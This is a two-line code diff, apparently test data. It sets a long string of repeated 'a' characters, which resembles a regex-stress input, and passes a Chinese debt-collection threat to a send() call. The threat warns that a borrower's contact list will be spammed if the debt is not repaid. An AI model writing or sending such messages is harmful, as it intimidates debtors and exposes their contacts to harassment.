@@ -1,0 +1,2 @@
+x = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"
+send("再不还钱就爆你通讯录")
